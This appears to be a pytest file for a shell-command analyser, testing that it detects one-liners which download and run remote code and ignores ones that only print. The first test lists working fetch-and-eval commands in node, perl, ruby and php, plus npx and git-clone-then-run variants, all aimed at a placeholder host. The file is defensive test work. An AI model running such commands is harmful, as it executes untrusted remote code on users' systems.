"""One-line programs of other languages, and tools that fetch a program and start it."""

from __future__ import annotations

import pytest

from pratique.facts.shell import read_shell


@pytest.mark.parametrize(
    "command",
    [
        "node -e \"require('http').get('http://h.example.invalid/a',r=>r.on('data',d=>eval(''+d)))\"",
        "perl -MLWP::Simple -e 'eval get(\"http://h.example.invalid/a\")'",
        "ruby -ropen-uri -e 'eval URI.open(\"http://h.example.invalid/a\").read'",
        "php -r 'eval(file_get_contents(\"http://h.example.invalid/a\"));'",
        "npx -y http://h.example.invalid/a.tgz",
        "git clone http://h.example.invalid/a.git /tmp/a && sh /tmp/a/run.sh",
    ],
)
def test_what_other_tools_fetch_is_run(command: str) -> None:
    """An interpreter needs no pipe and no file to run what it fetched."""
    assert read_shell(command).runs_download


@pytest.mark.parametrize(
    "command",
    [
        "node -e \"console.log('http://h.example.invalid/')\"",
        "perl -e 'print 1' http://h.example.invalid/",
        "npx prettier --check docs",
        "git clone https://h.example.invalid/a.git && cd a && git submodule update",
        "php -r 'echo file_get_contents(\"http://h.example.invalid/a\");'",
    ],
)
def test_one_liners_that_only_print_are_ordinary(command: str) -> None:
    """An address or an interpreter alone is no chain."""
    assert not read_shell(command).runs_download
